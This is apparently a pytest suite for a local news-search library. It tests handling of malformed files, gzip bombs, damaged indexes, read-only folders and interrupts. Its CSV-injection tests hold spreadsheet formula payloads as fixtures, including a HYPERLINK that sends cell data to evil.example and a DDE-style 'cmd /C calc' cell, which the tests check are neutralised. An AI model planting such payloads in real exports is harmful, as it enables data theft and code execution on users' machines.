"""Nothing lost on a bad day: hostile files are named and skipped, everything else is indexed."""

from __future__ import annotations

import gzip
import json
import os
import socket
import sys

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from searchlib import BadDate, BadQuery, SearchlibError, SearchRequest, build_index, parse_period, search

from .conftest import FIXTURES, invoke

GOOD = "Airport reopens\n\nOfficials in Kabul said on Friday that the airport would reopen after the attack, which the Taliban condemned."


def make_hostile(folder):
    folder.mkdir()
    (folder / "good.txt").write_text(GOOD)
    (folder / "utf16le.txt").write_bytes(b"\xff\xfe" + GOOD.encode("utf-16-le"))
    (folder / "utf16be.txt").write_bytes(b"\xfe\xff" + GOOD.encode("utf-16-be"))
    (folder / "bom8.txt").write_bytes(b"\xef\xbb\xbf" + GOOD.encode("utf-8"))
    (folder / "cp1252.txt").write_bytes((GOOD + " Caf\u00e9 \u201cquoted\u201d.").encode("cp1252"))
    (folder / "badutf8.txt").write_bytes(GOOD.encode() + b" \xff\xfe broken \xc3 bytes")
    (folder / "lying.html").write_bytes(b'<meta charset="utf-8"><p>' + (GOOD + " Caf\u00e9.").encode("cp1252") + b"</p>")
    (folder / "unknown-charset.html").write_bytes(b'<meta charset="x-nonsense"><p>' + GOOD.encode() + b"</p>")
    (folder / "binary.txt").write_bytes(bytes(range(256)) * 40)
    (folder / "binary.html").write_bytes(b"\x89PNG\r\n\x1a\n" + b"\x00" * 2000)
    (folder / "empty.txt").write_bytes(b"")
    (folder / "blank.html").write_bytes(b"  \n\t\n ")
    (folder / "scripts-only.html").write_text("<html><head><script>var c='Afghanistan';</script><style>p{}</style>"
                                              "</head><body><script>track('Kabul')</script></body></html>")
    (folder / "deep.html").write_text("<div>" * 100000 + "<p>" + GOOD + "</p>" + "</div>" * 100000)
    (folder / "one-line.txt").write_text("Officials in Kabul said the airport reopened. " * 120000)  # 5.5 MB
    (folder / "nul-entities.html").write_bytes(b"<p>Kabul \x00 &bogus; &#99999999; &#x110000; " + GOOD.encode() + b"</p>")
    (folder / "gz-page.html.gz").write_bytes(gzip.compress(f"<p>{GOOD}</p>".encode()))
    (folder / "dangling.txt").symlink_to(folder / "nowhere.txt")
    (folder / "loop").mkdir()
    (folder / "loop" / "back").symlink_to(folder, target_is_directory=True)
    os.mkfifo(folder / "fifo.txt")
    for name in (b"bad\xffname.txt", b"new\nline.txt", b"-leading-dash.txt", b"quo\"te's.txt"):
        with open(os.path.join(os.fsencode(folder), name), "w") as fh:
            fh.write(GOOD)
    return folder


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory):
    folder = make_hostile(tmp_path_factory.mktemp("h") / "corpus")
    ix = tmp_path_factory.mktemp("h-ix")
    report = build_index([str(folder)], str(ix), jobs=1)
    return folder, ix, report


def failed_names(report):
    return {os.path.basename(p.split("#")[0]) for p, _reason in report.failed}


def test_bad_files_are_named_and_everything_else_is_indexed(hostile_run):
    _folder, ix, report = hostile_run
    assert failed_names(report) == {"binary.txt", "binary.html", "empty.txt", "blank.html", "scripts-only.html",
                                    "dangling.txt", "fifo.txt"}
    indexed = {h.key for h in search(SearchRequest("*", limit=100, all=True), str(ix)).hits}
    for name in ("good.txt", "utf16le.txt", "utf16be.txt", "bom8.txt", "cp1252.txt", "badutf8.txt", "lying.html",
                 "unknown-charset.html", "deep.html", "one-line.txt", "nul-entities.html", "gz-page.html.gz",
                 "bad\\xffname.txt", "new\nline.txt", "-leading-dash.txt", "quo\"te's.txt"):
        assert name in indexed, name


def test_every_failure_has_a_reason(hostile_run):
    reasons = dict((os.path.basename(p), r) for p, r in hostile_run[2].failed)
    assert "binary" in reasons["binary.txt"] and "empty" in reasons["empty.txt"]
    assert "not a regular file" in reasons["fifo.txt"] and "dangling" in reasons["dangling.txt"]
    assert "no article text" in reasons["scripts-only.html"]


def test_decoding_keeps_the_characters(hostile_run):
    ix = hostile_run[1]
    assert search(SearchRequest('"Caf\u00e9"', limit=10, all=True), str(ix)).total >= 2


def test_script_text_is_never_searchable(hostile_run):
    assert search(SearchRequest("track", all=True), str(hostile_run[1])).total == 0


def test_cli_names_each_bad_file_on_one_line_printably(hostile_run, runner, tmp_path):
    folder = hostile_run[0]
    result = invoke(runner, "index", folder, "--index", tmp_path / "ix2")
    assert result.exit_code == 1
    lines = [ln for ln in result.stderr.splitlines() if ln.startswith("skipped ")]
    assert len(lines) == 7 and all("\n" not in ln for ln in lines)


def test_gzip_bomb_page_is_refused_not_expanded(tmp_path, monkeypatch):
    from searchlib.derive import loading

    monkeypatch.setattr(loading, "MAX_BYTES", 100_000)
    (tmp_path / "bomb.html.gz").write_bytes(gzip.compress(b"<p>" + b"a" * 5_000_000 + b"</p>"))
    report = build_index([str(tmp_path)], str(tmp_path / "ix"), jobs=1)
    assert report.added == 0 and "gzip bomb" in report.failed[0][1]


def test_oversized_file_is_skipped_with_the_limit_stated(tmp_path, monkeypatch):
    from searchlib.derive import loading

    monkeypatch.setattr(loading, "MAX_BYTES", 1000)
    (tmp_path / "big.txt").write_text(GOOD * 20)
    report = build_index([str(tmp_path)], str(tmp_path / "ix"), jobs=1)
    assert "limit" in report.failed[0][1] and "1,000" in report.failed[0][1]


def test_no_network_while_indexing_and_searching(tmp_path, monkeypatch):
    def refuse(*args, **kwargs):
        raise AssertionError("network access attempted")

    monkeypatch.setattr(socket, "socket", refuse)
    monkeypatch.setattr(socket, "create_connection", refuse)
    monkeypatch.setattr(socket, "getaddrinfo", refuse)
    report = build_index([str(FIXTURES)], str(tmp_path / "ix"), jobs=1)
    assert report.added == 8
    assert search(SearchRequest("Kenyatta", facets=True), str(tmp_path / "ix")).total == 1


# ----------------------------------------------------------------------------- queries

@pytest.mark.parametrize("query", ['"unbalanced', "(open", "close)", "nosuchfield:x", "", "a" * 10000])
def test_bad_queries_exit_2_with_one_line(runner, built_index, query):
    result = invoke(runner, "search", query, "--index", built_index)
    assert result.exit_code == 2 and len(result.stderr.strip().splitlines()) == 1 and "Traceback" not in result.stderr


def test_lone_star_lists_everything(runner, built_index):
    assert invoke(runner, "search", "*", "--index", built_index).exit_code == 0


def answer(result) -> dict:
    """A search that ran to its end: no exception but the exit itself (CliRunner keeps a crash in
    result.exception, never in the output), exit 0 with hits or 1 without, one whole JSON answer."""
    assert result.exception is None or isinstance(result.exception, SystemExit), repr(result.exception)
    assert result.exit_code in (0, 1), result.output
    data = json.loads(result.stdout)
    assert isinstance(data["hits"], list) and data["total"] >= len(data["hits"])
    assert result.exit_code == (0 if data["hits"] else 1) and result.stderr == ""
    return data


def test_long_wildcards_are_answered(runner, built_index):
    query = "a" + "*" * 50 + "b*c*d*e*"
    data = answer(invoke(runner, "search", query, "--index", built_index, "--format", "json"))
    assert data["query"] == query
    text = invoke(runner, "search", query, "--index", built_index)
    assert text.exception is None or isinstance(text.exception, SystemExit), repr(text.exception)
    assert text.exit_code in (0, 1) and text.stdout.startswith(f"{data['total']} match")


def test_non_utf8_bytes_in_argv_are_a_clear_error(runner, built_index):
    bad = os.fsdecode(b"kab\xffl")
    result = invoke(runner, "search", bad, "--index", built_index)
    assert result.exit_code == 2 and "UTF-8" in result.stderr
    assert invoke(runner, "search", "--country", bad, "--index", built_index).exit_code == 2


def test_non_ascii_queries_work(runner, built_index, tmp_path):
    query = "Caf\u00e9 \u0643\u0627\u0628\u0644"  # Café and Kabul in Arabic
    data = answer(invoke(runner, "search", query, "--index", built_index, "--format", "json"))
    assert (data["query"], data["total"], data["hits"]) == (query, 0, [])  # no fixture page has these words
    (tmp_path / "pages").mkdir()
    (tmp_path / "pages" / "cafe.txt").write_text("Attack near a caf\u00e9 in Kabul\n\nKABUL \u2014 Gunmen attacked "
                                                 "the Caf\u00e9 Taj in Kabul (\u0643\u0627\u0628\u0644) on Monday.\n",
                                                 encoding="utf-8")
    build_index([str(tmp_path / "pages")], str(tmp_path / "ix"), jobs=1)
    for words in (query, "CAF\u00c9", "\u0643\u0627\u0628\u0644"):
        data = answer(invoke(runner, "search", words, "--index", tmp_path / "ix", "--format", "json"))
        assert [h["key"] for h in data["hits"]] == ["cafe.txt"], words


def test_corrupt_index_is_a_clear_error(runner, tmp_path):
    ix = tmp_path / "ix"
    build_index([str(FIXTURES)], str(ix), jobs=1)
    gen = ix / (ix / "CURRENT").read_text().strip()
    for f in gen.iterdir():
        if f.suffix == ".toc":
            f.write_bytes(b"garbage")
    result = invoke(runner, "search", "Kabul", "--index", ix)
    assert result.exit_code == 2 and "rebuild" in result.stderr and "Traceback" not in result.stderr
    (ix / "CURRENT").write_text("gen-999999\n")
    assert invoke(runner, "search", "Kabul", "--index", ix).exit_code == 2


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=40))
def test_query_parser_never_raises_anything_but_our_errors(built_index_for_property, text):
    try:
        search(SearchRequest(text, limit=3), built_index_for_property)
    except SearchlibError:
        pass


@settings(max_examples=500, deadline=None)
@given(st.text(max_size=20))
def test_date_parser_accepts_only_real_periods(text):
    try:
        start = parse_period(text)
        end = parse_period(text, end=True)
    except BadDate:
        return
    assert len(start) == 10 and start <= end


@settings(max_examples=200, deadline=None)
@given(st.integers(1, 9999), st.integers(1, 12), st.integers(1, 31))
def test_every_real_day_parses_to_itself(y, m, d):
    import datetime as dt

    try:
        day = dt.date(y, m, d)
    except ValueError:
        return
    value = f"{y:04d}-{m:02d}-{d:02d}"
    assert parse_period(value) == parse_period(value, end=True) == day.isoformat()


@pytest.fixture(scope="module")
def built_index_for_property(tmp_path_factory):
    ix = tmp_path_factory.mktemp("prop-ix")
    build_index([str(FIXTURES)], str(ix), jobs=1)
    return str(ix)


@pytest.mark.skipif(sys.platform != "linux" or os.geteuid() == 0, reason="root reads unreadable files")
def test_unreadable_file_is_reported(tmp_path):
    (tmp_path / "secret.txt").write_text(GOOD)
    os.chmod(tmp_path / "secret.txt", 0)
    report = build_index([str(tmp_path)], str(tmp_path / "ix"), jobs=1)
    assert "secret.txt" in report.failed[0][0]


def test_files_deleted_or_rewritten_during_a_run(tmp_path):
    from searchlib.derive import loading, pipeline

    (tmp_path / "gone.txt").write_text(GOOD)
    (tmp_path / "moving.txt").write_text(GOOD)
    sources = [s for s in loading.iter_sources([str(tmp_path)])]
    (tmp_path / "gone.txt").unlink()  # deleted between the scan and the read
    (tmp_path / "moving.txt").write_text(GOOD.replace("Kabul", "Kandahar"))  # rewritten meanwhile
    results = {r.key: r for r in pipeline.derive_all(sources, jobs=1)}
    assert "vanished" in results["gone.txt"].failures[0].reason
    assert "Kandahar" in results["moving.txt"].records[0].text  # the bytes read are the ones indexed
    ix = tmp_path / "ix"
    build_index([str(tmp_path)], str(ix), jobs=1)
    assert search(SearchRequest("Kandahar"), str(ix)).total == 1


# ----------------------------------------------------------------------------- CSV injection

FORMULA_TITLE = 'Kabul airport;=HYPERLINK("http://evil.example/?"&A1,"details")'
FULLWIDTH_TITLE = "\uff1dcmd|' /C calc'!A0"
FORMULA_BODY = ("Officials in Kabul said on Friday that the airport would reopen, =1+1 after the attack; @SUM(A1:A9) "
                "which the Taliban condemned,\t\uff0bHYPERLINK(1) and the talks went on.")


@pytest.mark.parametrize("cell,expected", [
    ('x;=HYPERLINK("http://evil.example/")', 'x;\'=HYPERLINK("http://evil.example/")'),
    ("x; =1+1", "x; '=1+1"),  # spaces after the separator do not hide it
    ("a,+1", "a,'+1"),
    ("a\t-1", "a\t'-1"),
    ("a\n@SUM(A1)", "a\n'@SUM(A1)"),
    ("a\r\n=1", "a\r\n'=1"),
    ("ISIS-K;Taliban", "ISIS-K;Taliban"),  # a formula character inside a value is not a formula start
    ("2021-08-26", "2021-08-26"),
])
def test_csv_formula_after_a_semicolon_is_neutralised(cell, expected):
    """A spreadsheet in a locale that splits cells on ';' (or ',', tab, a line break) makes a cell of what follows."""
    from searchlib.query.rendering import safe_cell

    assert safe_cell(cell) == expected


@pytest.mark.parametrize("start", ["\uff1d", "\uff0b", "\uff0d", "\uff20", "\ufe66", "\ufe62", "\ufe63", "\ufe6b"])
def test_fullwidth_formula_starts_are_neutralised(start):
    from searchlib.query.rendering import safe_cell

    assert safe_cell(start + "1+1") == "'" + start + "1+1"
    assert safe_cell("x;" + start + "1+1") == "x;'" + start + "1+1"


@pytest.mark.parametrize("lead", ["\t", "\r", "\n", "\0"])
def test_leading_tab_and_cr_are_neutralised(lead):
    from searchlib.query.rendering import safe_cell

    assert safe_cell(lead + "=1+1").startswith("'" + lead)  # the cell starts with ', so it is text
    assert safe_cell(lead + "Kabul") == "'" + lead + "Kabul"


def test_formula_starts_are_every_character_nfkc_folds_to_one():
    import unicodedata

    from searchlib.query.rendering import FORMULA_STARTS

    folded = {chr(c) for c in range(sys.maxunicode + 1) if unicodedata.normalize("NFKC", chr(c)) in "=+-@"}
    assert set(FORMULA_STARTS) == folded


def formula_cells(text: str) -> list[str]:
    """Cells that would run, read with ',' or split again on ';', ',', tab or a line break; the text must
    also be written with every cell quoted."""
    import csv
    import io
    import re

    from searchlib.query.rendering import FORMULA_STARTS

    rows = list(csv.reader(io.StringIO(text)))
    requoted = io.StringIO()
    csv.writer(requoted, lineterminator="\n", quoting=csv.QUOTE_ALL).writerows(rows)
    assert requoted.getvalue() == text, "every cell is quoted"
    return [piece for row in rows for cell in row for piece in re.split(r"[;,\t\r\n]", cell)
            if piece.lstrip(" ")[:1] in set(FORMULA_STARTS)]


@pytest.fixture(scope="module")
def formula_index(tmp_path_factory):
    pages = tmp_path_factory.mktemp("formula-pages")
    (pages / "semicolon.txt").write_text(f"{FORMULA_TITLE}\n\n{FORMULA_BODY}\n", encoding="utf-8")
    (pages / "fullwidth.txt").write_text(f"{FULLWIDTH_TITLE}\n\n{GOOD.split(chr(10))[-1]} {FORMULA_BODY}\n",
                                        encoding="utf-8")
    ix = tmp_path_factory.mktemp("formula-ix")
    report = build_index([str(pages)], str(ix), jobs=1)
    assert report.added == 2, report.failed
    return str(ix)


def test_csv_injection_never_reaches_a_cli_csv(runner, formula_index):
    outputs = {
        "search": invoke(runner, "search", "Kabul", "--format", "csv", "--limit", "10", "--index", formula_index),
        "export": invoke(runner, "export", "--format", "csv", "--with-text", "--index", formula_index),
        "facets": invoke(runner, "facets", "--format", "csv", "--index", formula_index),
    }
    for command, result in outputs.items():
        assert result.exit_code == 0, (command, result.output)
        assert formula_cells(result.stdout) == [], command
    assert "HYPERLINK" in outputs["export"].stdout and "\uff1dcmd" in outputs["export"].stdout


def test_csv_injection_never_reaches_the_web_export(formula_index):
    pytest.importorskip("flask")
    from searchlib.web import app as serving

    app = serving.create_app(formula_index)
    r = app.test_client().get("/export.csv", query_string={"q": "Kabul"})
    app.extensions["searchlib"].close()  # the warm searcher's files
    assert r.status_code == 200 and "HYPERLINK" in r.get_data(as_text=True)
    assert formula_cells(r.get_data(as_text=True)) == []


# ----------------------------------------------------------------------------- damaged index files

def damaged_index(tmp_path, suffix: str | None = None, damage=None, checksums: bool = True):
    """A fixture index with one file of its live generation damaged. ``checksums``: the sums a
    commit records (indexing.write_checksums), as an index written by this version has."""
    from searchlib.store import indexing

    ix = tmp_path / "ix"
    build_index([str(FIXTURES)], str(ix), jobs=1)
    gen = indexing.current_generation(str(ix))
    if checksums:
        indexing.write_checksums(gen)  # what the commit path does
    else:  # as an index written before checksums
        for name in os.listdir(gen):
            if name.startswith("sums."):
                os.remove(os.path.join(gen, name))
    target = None
    if suffix:
        target = next(p for p in sorted(os.listdir(gen)) if p.endswith(suffix))
        target = os.path.join(gen, target)
        damage(target)
    return ix, target


def flip(path):
    from pathlib import Path

    data = bytearray(Path(path).read_bytes())
    for i in (len(data) // 3, len(data) // 2, 2 * len(data) // 3):
        data[i] ^= 0xFF
    Path(path).write_bytes(bytes(data))


def cut(path):
    os.truncate(path, os.path.getsize(path) // 2)


def clear_error(result, *names):
    """Exit 2, one line on stderr naming the file and the way out, no traceback."""
    assert result.exit_code == 2, (result.exit_code, result.output, result.exception)
    assert "Traceback" not in result.stderr and len(result.stderr.strip().splitlines()) == 1, result.stderr
    for name in names:
        assert name in result.stderr, result.stderr


COMMANDS = [("search", "Kabul"), ("search", "Kabul", "--facets"), ("export",), ("show", "isisk-kabul.txt"),
            ("stats",)]


@pytest.mark.parametrize("suffix", ["._stored.col", "._body_len.col", ".pst", ".toc"])
def test_truncated_index_file_is_named_by_every_command(runner, tmp_path, suffix):
    ix, target = damaged_index(tmp_path, suffix, cut)
    for command in COMMANDS:
        clear_error(invoke(runner, *command, "--index", ix), target, "searchlib index --rebuild")
    result = invoke(runner, "check", "--index", ix)
    assert result.exit_code == 2 and f"damaged {target}: is " in result.stderr


def test_flipped_stored_column_is_named_by_export_show_and_check(runner, tmp_path):
    ix, target = damaged_index(tmp_path, "._stored.col", flip)
    clear_error(invoke(runner, "export", "--index", ix), target, "searchlib index --rebuild")
    result = invoke(runner, "check", "--index", ix, "--format", "json")
    assert result.exit_code == 2
    report = json.loads(result.stdout)
    assert report["ok"] is False and report["checksums"] is True
    assert target in [p["path"] for p in report["problems"]]


def test_flipped_body_length_column_is_found_by_check(runner, tmp_path):
    ix, target = damaged_index(tmp_path, "._body_len.col", flip)
    result = invoke(runner, "check", "--index", ix)
    assert result.exit_code == 2 and f"damaged {target}: does not hold what was written" in result.stderr
    assert "searchlib index --rebuild" in result.stderr.splitlines()[-1]


def test_emptied_stored_column_without_checksums_is_a_clear_error(runner, tmp_path):
    """An index written before checksums: the damaged file cannot be named, but the error is clear."""
    ix, _target = damaged_index(tmp_path, "._stored.col", lambda p: os.truncate(p, 0), checksums=False)
    for command in COMMANDS[:4]:
        clear_error(invoke(runner, *command, "--index", ix), "damaged", "searchlib check", "--rebuild")


def test_check_passes_an_intact_index_and_a_rebuild_repairs_a_damaged_one(runner, tmp_path):
    ix, _ = damaged_index(tmp_path)
    result = invoke(runner, "check", "--index", ix)
    assert result.exit_code == 0 and result.stdout.startswith("ok: ") and result.stderr == ""
    from searchlib.store import indexing

    cut(next(os.path.join(g, n) for g in [indexing.current_generation(str(ix))] for n in os.listdir(g)
             if n.endswith("._stored.col")))
    assert invoke(runner, "check", "--index", ix).exit_code == 2
    assert invoke(runner, "index", "--rebuild", "--index", ix, "--jobs", "1").exit_code == 0
    assert invoke(runner, "search", "Kabul", "--index", ix).exit_code == 0


@pytest.mark.parametrize("content", [b"\xff\xfegen-000001\n", b"", b"../../etc\n", b"gen-000042\n"],
                         ids=["not-utf8", "empty", "path", "missing-generation"])
def test_damaged_current_pointer_is_named_by_every_command_and_wipes_nothing(runner, tmp_path, content):
    ix, _ = damaged_index(tmp_path)
    gen_files = sorted(os.listdir(ix / "gen-000001"))
    (ix / "CURRENT").write_bytes(content)
    for command in (*COMMANDS, ("check",), ("index", FIXTURES, "--jobs", "1"), ("index", "--jobs", "1")):
        clear_error(invoke(runner, *command, "--index", ix), f"{ix}/CURRENT", "gen-000001")
    assert sorted(os.listdir(ix / "gen-000001")) == gen_files  # no run took it for an empty archive
    (ix / "CURRENT").write_text("gen-000001\n")  # the way out the message gives
    assert invoke(runner, "check", "--index", ix).exit_code == 0
    assert invoke(runner, "search", "Kabul", "--index", ix).exit_code == 0


def test_damaged_manifest_stops_an_update_instead_of_dropping_the_other_roots(runner, tmp_path):
    from pathlib import Path

    ix, target = damaged_index(tmp_path, "files.1.json", lambda p: Path(p).write_text("{garbage"))
    (tmp_path / "batch").mkdir()
    (tmp_path / "batch" / "new.txt").write_text(GOOD)
    clear_error(invoke(runner, "index", tmp_path / "batch", "--index", ix, "--jobs", "1"), target)
    assert search(SearchRequest("*", limit=100, all=True), str(ix)).total == 8


def test_damaged_index_is_503_in_the_web_view(tmp_path):
    pytest.importorskip("flask")
    from searchlib.web import app as serving

    ix, target = damaged_index(tmp_path, "._stored.col", cut)
    client = serving.create_app(str(ix)).test_client()
    page = client.get("/?q=Kabul")
    assert page.status_code == 503 and "searchlib index --rebuild" in page.get_data(as_text=True)
    api = client.get("/api/search?q=Kabul")
    # the damaged file by its place in the index, never where the server keeps it
    error = api.get_json()["error"]
    assert api.status_code == 503 and os.path.relpath(target, ix) in error and str(tmp_path) not in error


def test_checksums_of_an_update_hash_only_its_new_files(tmp_path, monkeypatch):
    from searchlib import fsutil
    from searchlib.store import indexing

    ix, _ = damaged_index(tmp_path)
    gen = indexing.current_generation(str(ix))
    (tmp_path / "batch").mkdir()
    (tmp_path / "batch" / "new.txt").write_text(GOOD)
    build_index([str(tmp_path / "batch")], str(ix), jobs=1)
    hashed = []
    real = fsutil.file_sha256
    monkeypatch.setattr(fsutil, "file_sha256", lambda path: hashed.append(os.path.basename(path)) or real(path))
    indexing.write_checksums(gen)  # what the commit path does after each commit
    toc = indexing.toc_generation(gen)
    sums = json.loads((ix / "gen-000001" / f"sums.{toc}.json").read_text())["files"]
    first = json.loads((ix / "gen-000001" / "sums.1.json").read_text())["files"]
    old_segment_files = [n for n in first if n.startswith("MAIN_") and n in sums]
    assert old_segment_files and not set(old_segment_files) & set(hashed)
    assert any(n.startswith("MAIN_") and n not in first for n in hashed)  # the new segment
    assert indexing.verify_generation(gen, full=True) == []


def test_every_commit_records_checksums(tmp_path):
    from searchlib.store import indexing

    ix = tmp_path / "ix"
    build_index([str(FIXTURES)], str(ix), jobs=1)
    gen = indexing.current_generation(str(ix))
    assert (ix / "gen-000001" / "sums.1.json").exists()
    (tmp_path / "batch").mkdir()
    (tmp_path / "batch" / "new.txt").write_text(GOOD)
    build_index([str(tmp_path / "batch")], str(ix), jobs=1)
    assert (ix / "gen-000001" / f"sums.{indexing.toc_generation(gen)}.json").exists()
    assert indexing.verify_generation(gen, full=True) == []


@pytest.mark.parametrize("suffix", [".trm", "._stored.col"])
def test_update_over_a_damaged_index_file_stops_with_exit_2(runner, tmp_path, suffix):
    ix, target = damaged_index(tmp_path, suffix, cut)
    result = invoke(runner, "index", FIXTURES, "--index", ix, "--jobs", "1")  # nothing to add: still checked
    clear_error(result, target, "searchlib index --rebuild")


# ----------------------------------------------------------------------------- read-only folders, Ctrl-C

@pytest.fixture
def read_only(monkeypatch):
    """Make a folder behave as on a read-only file system (EROFS) for this process, also for root
    (whom permission bits do not stop): every write, create, rename or removal under it fails."""
    import builtins
    import errno
    import io

    frozen: list[str] = []

    def under(path) -> bool:
        try:
            full = os.path.abspath(os.fsdecode(path))
        except TypeError:
            return False  # a file descriptor
        return any(full == f or full.startswith(f + os.sep) for f in frozen)

    def refuse(path):
        raise OSError(errno.EROFS, os.strerror(errno.EROFS), os.fsdecode(path))

    real_open, real_os_open = builtins.open, os.open

    def guarded_open(file, mode="r", *args, **kwargs):
        if under(file) and any(c in mode for c in "wax+"):
            refuse(file)
        return real_open(file, mode, *args, **kwargs)

    def guarded_os_open(path, flags, *args, **kwargs):
        if under(path) and flags & (os.O_WRONLY | os.O_RDWR | os.O_CREAT | os.O_APPEND | os.O_TRUNC):
            refuse(path)
        return real_os_open(path, flags, *args, **kwargs)

    monkeypatch.setattr(builtins, "open", guarded_open)
    monkeypatch.setattr(io, "open", guarded_open)
    monkeypatch.setattr(os, "open", guarded_os_open)
    for name in ("mkdir", "makedirs", "replace", "rename", "remove", "unlink", "rmdir", "link", "symlink"):
        real = getattr(os, name)

        def guarded(*args, _real=real, _name=name, **kwargs):
            if any(under(a) for a in args[:2] if isinstance(a, (str, bytes, os.PathLike))) and not (
                    _name == "makedirs" and kwargs.get("exist_ok") and os.path.isdir(args[0])):
                refuse(args[0])
            return _real(*args, **kwargs)

        monkeypatch.setattr(os, name, guarded)
    return lambda folder: frozen.append(os.path.abspath(str(folder)))


def test_read_only_index_folder_is_exit_74_with_the_path(runner, tmp_path, read_only):
    ix = tmp_path / "ix"
    build_index([str(FIXTURES)], str(ix), jobs=1)
    read_only(ix)
    (tmp_path / "batch").mkdir()
    (tmp_path / "batch" / "new.txt").write_text(GOOD)
    for args in ((tmp_path / "batch",), (), ("--rebuild",)):
        result = invoke(runner, "index", *args, "--index", ix, "--jobs", "1")
        assert result.exit_code == 74, (args, result.output, result.exception)
        assert "Traceback" not in result.stderr and len(result.stderr.strip().splitlines()) == 1, result.stderr
        assert str(ix) in result.stderr and "Read-only file system" in result.stderr
    assert invoke(runner, "search", "Kabul", "--index", ix).exit_code == 0  # reading needs no writes
    assert invoke(runner, "check", "--index", ix).exit_code == 0


def test_index_under_a_read_only_folder_is_exit_74_with_the_path(runner, tmp_path, read_only):
    read_only(tmp_path / "ro")
    result = invoke(runner, "index", FIXTURES, "--index", tmp_path / "ro" / "ix", "--jobs", "1")
    assert result.exit_code == 74 and f"{tmp_path / 'ro' / 'ix'}" in result.stderr and "Traceback" not in result.stderr
    result = invoke(runner, "index", "--from-jsonl", FIXTURES / "README.md", "--index", tmp_path / "ro" / "ix")
    assert result.exit_code == 2  # not an export: refused before anything is written


@pytest.mark.skipif(os.geteuid() == 0, reason="root writes into read-only folders")
def test_read_only_index_folder_by_permissions_is_exit_74(runner, tmp_path):
    ix = tmp_path / "ix"
    build_index([str(FIXTURES)], str(ix), jobs=1)
    for path in [ix, *ix.rglob("*")]:
        path.chmod(path.stat().st_mode & ~0o222)
    try:
        result = invoke(runner, "index", FIXTURES, "--index", ix, "--jobs", "1")
        assert result.exit_code == 74 and str(ix) in result.stderr and "Traceback" not in result.stderr
    finally:
        for path in [ix, *ix.rglob("*")]:
            path.chmod(path.stat().st_mode | 0o200)


def interrupt(*args, **kwargs):
    raise KeyboardInterrupt


INTERRUPTIBLE = {  # command -> a library call it makes, interrupted there
    "index": (("index", FIXTURES), "searchlib.store.indexing.build_index"),
    "index-from-jsonl": (("index", "--from-jsonl", FIXTURES / "README.md"), "searchlib.store.indexing.import_records"),
    "extract": (("extract", FIXTURES), "searchlib.derive.pipeline.extract"),
    "search": (("search", "Kabul"), "searchlib.query.searching.search"),
    "export": (("export",), "searchlib.query.searching.Searcher.export"),
    "show": (("show", "isisk-kabul.txt"), "searchlib.query.searching.Searcher.document"),
    "facets": (("facets",), "searchlib.query.searching.Searcher.facets"),
    "stats": (("stats",), "searchlib.query.reporting.stats"),
    "check": (("check",), "searchlib.store.indexing.check_index"),
}


@pytest.mark.parametrize("command, target", INTERRUPTIBLE.values(), ids=INTERRUPTIBLE.keys())
def test_ctrl_c_exits_130_with_one_line_in_every_command(runner, built_index, monkeypatch, command, target):
    monkeypatch.setattr(target, interrupt)
    index = () if command[0] == "extract" else ("--index", built_index)
    result = invoke(runner, *command, *index)
    assert result.exit_code == 130, (result.exit_code, result.output)
    assert result.stderr.strip().splitlines() == [result.stderr.strip()] and "Interrupted" in result.stderr
    assert "Traceback" not in result.stderr and "Aborted" not in result.stderr


def test_ctrl_c_at_a_confirmation_prompt_exits_130(runner, built_index, monkeypatch):
    import click

    from searchlib.store import indexing

    def ask(*args, **kwargs):
        raise click.Abort  # what click.confirm raises for Ctrl-C

    monkeypatch.setattr(indexing, "build_index", ask)
    result = invoke(runner, "index", FIXTURES, "--index", built_index)
    assert result.exit_code == 130 and "Aborted" not in result.stderr


def test_ctrl_c_really_sent_to_a_batch_search_exits_130(built_index):
    import signal
    import subprocess

    env = dict(os.environ, PYTHONPATH=str(FIXTURES.parents[2]))
    proc = subprocess.Popen([sys.executable, "-m", "searchlib", "search", "--batch", "-", "--index", built_index],
                            stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE, env=env,
                            text=True, start_new_session=True)
    try:
        proc.stdin.write("Kabul\n")
        proc.stdin.flush()
        assert json.loads(proc.stdout.readline())["total"] >= 1  # answered: now it waits for the next line
        os.killpg(proc.pid, signal.SIGINT)
        assert proc.wait(30) == 130
        err = proc.stderr.read()
    finally:
        proc.kill()
        for stream in (proc.stdin, proc.stdout, proc.stderr):
            stream.close()
        proc.wait()
    assert err.strip() == "Error: Interrupted (Ctrl-C)", err
